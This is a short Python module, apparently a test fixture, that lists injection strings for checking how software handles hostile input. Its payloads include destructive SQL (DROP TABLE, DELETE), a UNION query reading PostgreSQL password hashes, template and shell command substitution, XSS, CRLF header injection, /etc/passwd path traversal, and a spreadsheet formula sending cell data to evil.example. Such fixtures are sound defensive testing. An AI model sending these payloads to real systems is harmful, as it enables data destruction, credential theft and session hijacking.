"""Texts that break out of whatever they are put into, where it takes them for more than text."""

HARMLESS = "qqqq"
ATTACKS = {
    "a quote": "' OR 1=1 --",
    "a second statement": "'; DROP TABLE user_sessions; DELETE FROM users; --",
    "a dollar quote": "$$; TRUNCATE users CASCADE; $$ $1 $body$",
    "a placeholder": "%s %(since)s %% :search {0} {search}",
    "a pattern": "%_\\%' ESCAPE '",
    "a pause": "qqqq'||pg_sleep(20)||'",
    "a union": "') UNION SELECT rolpassword::text FROM pg_authid --",
    "a comment": "*/ -- /* ; \\",
    "a name": '"; SELECT 1; --',
    "other marks": "\u02bc OR \uff07\uff1d\uff07 \u202e\ufeff\u0000' OR true",
    "a list": "{1,NULL,\"a\"} [1] (1,2) ROW('a')",
    "json": '"}], "x": {"$ne": null, "__proto__": {}}',
    "a template": "{{7*7}} ${7*7} <%= 7*7 %> #{7*7} `id` $(id) | id; id",
    "a script": "\"'><script>alert(1)</script><img src=x onerror=alert(1)><svg onload=alert(1)>",
    "markdown": "[x](javascript:alert(1)) ![y](https://evil.example/y.png) **b** :red[z] $x^2$ :material/bug_report:",
    "a header": "x\r\nSet-Cookie: a=b\r\n\r\n<b>",
    "a path": "../../../../etc/passwd%00 ..\\..\\ file:///etc/passwd",
    "a formula": '=HYPERLINK("http://evil.example/"&A1)',
    "a number": "99999999999999999999999999e999",
    "other digits": "\u0661\u0662 \uff11\uff12 1_0 0x10 NaN -Infinity",
}
